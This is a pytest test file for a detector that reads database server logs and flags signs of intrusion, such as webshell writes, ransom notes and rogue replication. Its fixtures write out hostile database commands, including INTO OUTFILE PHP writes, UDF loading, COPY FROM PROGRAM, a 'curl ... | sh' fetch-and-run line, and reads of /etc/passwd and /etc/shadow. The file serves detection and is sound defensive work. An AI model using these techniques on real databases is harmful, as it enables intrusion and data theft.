import pytest

from hemostat.parse.logs.database_lines import read_database
from hemostat.parse.logs.messages import Accepted, Attempt, Did

pytestmark = pytest.mark.requirement("B3")


@pytest.mark.parametrize(
    ("line", "kind", "target"),
    [
        ("9 Query SELECT '<?php' INTO OUTFILE '/var/www/a.php'", "file_written", "/var/www/a.php"),
        ('9 Query select 0x7f into dumpfile "/x/udf.so"', "file_written", "/x/udf.so"),
        ("LOG:  statement: SELECT lo_export(1234, '/tmp/a.so');", "file_written", "/tmp/a.so"),
        ("Query\tset global general_log_file='/srv/www/x.php'", "log_moved", "/srv/www/x.php"),
        ("Query SET GLOBAL slow_query_log_file = '/w/y.php'", "log_moved", "/w/y.php"),
        ("Query CREATE FUNCTION sys_exec RETURNS int SONAME 'u.so'", "library_loaded", "u.so"),
        ("Query INSTALL PLUGIN x SONAME '../../tmp/p.so'", "library_loaded", "../../tmp/p.so"),
        (
            "LOG:  statement: CREATE OR REPLACE FUNCTION s(cstring) RETURNS int AS '/tmp/p.so', 's'"
            " LANGUAGE C STRICT;",
            "library_loaded",
            "/tmp/p.so",
        ),
        ("statement: COPY t FROM PROGRAM 'id'", "program_run", ""),
        ('ERROR:  program "curl http://x/a|sh" failed', "program_run", ""),
        ("Query select sys_eval('id')", "program_run", ""),
        ("Query SELECT LOAD_FILE('/etc/passwd')", "file_read", "/etc/passwd"),
        ("statement: select pg_read_file('/etc/shadow')", "file_read", "/etc/shadow"),
        ("Query CREATE TABLE READ_ME_TO_RECOVER (a text)", "ransom_note", "READ_ME_TO_RECOVER"),
        (
            "Query INSERT INTO w VALUES ('send 0.05 BTC to recover your data')",
            "ransom_note",
            "bitcoin",
        ),
        (
            "[node-1] [read_me] creating index, cause [api]",
            "ransom_note",
            "[read_me] creating index",
        ),
        ("* Module 'system' loaded from /tmp/exp.so", "library_loaded", "/tmp/exp.so"),
        ("* REPLICAOF 198.51.100.4:21 enabled (user request)", "follows", "198.51.100.4:21"),
        ("* SLAVE OF 198.51.100.4:21 enabled (user request)", "follows", "198.51.100.4:21"),
        ("* Connecting to MASTER 198.51.100.4:21", "follows", "198.51.100.4:21"),
        (
            "# Failed opening the RDB file root (in server root dir /var/spool/cron) for saving",
            "file_written",
            "/var/spool/cron/root",
        ),
    ],
)
def test_what_a_database_was_made_to_do(line: str, kind: str, target: str) -> None:
    said = read_database(line)
    assert isinstance(said, Did)
    assert (said.kind, said.target) == (kind, target)


def test_log_ins_of_databases() -> None:
    failed = read_database(
        "[Note] Access denied for user 'root'@'198.51.100.4' (using password: YES)"
    )
    assert isinstance(failed, Attempt)
    assert (failed.account, failed.address) == ("root", "198.51.100.4")
    line = '198.51.100.4(5000) FATAL:  password authentication failed for user "postgres"'
    failed = read_database(line)
    assert isinstance(failed, Attempt)
    assert failed.address == "198.51.100.4"
    let_in = read_database("91 Connect\tshop@198.51.100.4 on shop using TCP/IP")
    assert isinstance(let_in, Accepted)
    assert let_in.service == "mysql"


@pytest.mark.parametrize(
    "line",
    [
        "88 Query\tSELECT * FROM products WHERE id = 12",
        "LOG:  checkpoint complete: wrote 12 buffers (0.1%)",
        "* Ready to accept connections",
        "88 Connect\tshop@localhost on shop using Socket",
        "9 Query INSERT INTO posts VALUES ('How to recover a password', 'We take bitcoin now')",
        "* 10 changes in 300 seconds. Saving...",
    ],
)
def test_daily_work_says_nothing(line: str) -> None:
    assert read_database(line) is None
